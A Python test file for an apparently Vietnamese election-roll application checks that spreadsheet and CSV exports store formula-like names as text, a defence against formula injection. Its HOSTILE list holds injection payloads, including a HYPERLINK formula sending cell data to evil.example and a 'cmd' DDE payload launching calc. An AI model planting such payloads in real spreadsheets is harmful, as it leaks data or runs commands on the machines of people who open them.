"""Spreadsheet exports carry no live formula (review F8): a name starting with = + - @ (or a tab) is text."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from fractions import Fraction
from types import SimpleNamespace

import openpyxl
from sqlalchemy import insert

from app.attendance import services as attendance
from app.attendance.export import attendance_xlsx
from app.attendance.models import Attendance, SignInMethod
from app.core.spreadsheet import safe_csv_field
from app.reports.queries import Report, ReportLine, Winner
from app.reports.report_xlsx import report_xlsx
from app.rolls import documents
from app.rolls.models import Household
from tests.factories import create_election, create_household, create_round, create_tdp, create_ward

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&C5,"Xem")', "+84 cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "=1+1"]


def _cells(data: bytes) -> dict[str, str]:
    """Every string cell's value → its data type ("s" text, "f" formula)."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}


def _no_formula(data: bytes, present: list[str]) -> None:
    cells = _cells(data)
    assert "f" not in cells.values()
    for text in present:
        assert cells.get(text) == "s", text


def test_the_roll_export_writes_formula_like_names_and_addresses_as_text(session):
    tdp = create_tdp(create_ward(), 7)
    for i, name in enumerate(HOSTILE):
        household = create_household(tdp, f"07000{i}", representative=name)
        household.address = name
    session.commit()
    data = documents.roll_xlsx(tdp, include_citizen_ids=True)
    _no_formula(data, HOSTILE)


def test_the_attendance_export_writes_formula_like_places_as_text(session):
    ward = create_ward()
    tdp = create_tdp(ward, 7)
    round_ = create_round(create_election(ward), tdp)
    round_.place = "=1+1"
    ids = [create_household(tdp, f"07000{i}", representative="An").id for i in range(2)]
    session.flush()
    session.execute(insert(Attendance.__table__), [
        {"round_id": round_.id, "household_id": hid, "method": SignInMethod.CODE,
         "signed_in_at": datetime(2017, 10, 15, 1, tzinfo=UTC)} for hid in ids])
    session.get(Household, ids[0]).address = "@SUM(1+1)"
    session.commit()
    data = attendance_xlsx(round_, attendance.attendance_list(round_), attendance.quorum(round_))
    assert "f" not in _cells(data).values()
    assert _cells(data)["@SUM(1+1)"] == "s"


def test_the_ward_results_report_writes_a_formula_like_winner_as_text():
    winners = tuple(Winner(name, 5, Fraction(5, 9)) for name in HOSTILE)
    lines = [ReportLine(9, "=Tổ 9", 9, 7, Fraction(7, 9), winners[:1], winners[1:], "Đã bầu", 0, False, None)]
    report = Report(SimpleNamespace(name="=Phường", district=None), SimpleNamespace(term_label="2017–2020"), lines,
                    1, 9, 7, 0, 0, 0)
    data = report_xlsx(report)
    cells = _cells(data)
    assert "f" not in cells.values()
    assert cells[HOSTILE[0]] == "s" and cells["=Tổ 9"] == "s"


def test_a_csv_field_that_a_spreadsheet_would_run_gets_an_apostrophe():
    assert safe_csv_field("=1+1") == "'=1+1" and safe_csv_field("An") == "An" and safe_csv_field(5) == 5
